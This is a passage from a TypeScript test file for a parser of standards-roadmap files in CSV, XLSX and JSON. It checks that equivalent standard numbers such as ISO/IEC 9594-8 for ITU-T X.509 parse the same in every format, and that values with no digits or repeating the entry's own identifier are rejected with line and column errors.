    sheet.addRow(['ITU-T', 'X.509', 'Public-key frameworks', 'ISO/IEC 9594-8\nEN ISO/IEC 9594-8']);
    const xlsxFile = Buffer.from(await book.xlsx.writeBuffer());
    const jsonFile = JSON.stringify([{ organization: 'ITU-T', identifier: 'X.509', title: 'Public-key frameworks', equivalents: ['ISO/IEC 9594-8', 'EN ISO/IEC 9594-8'] }]);
    for (const [bytes, fileName] of [[csvFile, 'roadmap.csv'], [xlsxFile, 'roadmap.xlsx'], [jsonFile, 'roadmap.json']] as const) {
      const result = await parse(bytes, { fileName });
      assert.deepEqual(result.errors, [], fileName);
      assert.equal(result.columns.find((c) => c.field === 'equivalents')?.field, 'equivalents', fileName);
      assert.deepEqual(result.rows[0]?.equivalents, ['ISO/IEC 9594-8', 'EN ISO/IEC 9594-8'], fileName);
    }
  });

  it('refuses a value that is no number, and the entry’s own identifier, naming line and column', async () => {
    const result = await parse('organization,identifier,title,equivalents\nITU-T,X.509,Frameworks,see the ISO text\nITU-T,X.510,Protocols,ITU-T X.510\nITU-T,X.511,Service,ISO/IEC 9594-3\n');
    assert.deepEqual(result.errors, [
      { line: 2, column: 'equivalents', message: '“see the ISO text” is not a number: each equivalent number has digits, e.g. ISO/IEC 9594-8.' },
      { line: 3, column: 'equivalents', message: '“ITU-T X.510” is this entry’s own identifier, not another body’s number for the same text.' },
    ]);
    assert.deepEqual(result.rows.map((r) => [r.identifier, r.equivalents]), [['X.511', ['ISO/IEC 9594-3']]]);
  });
});
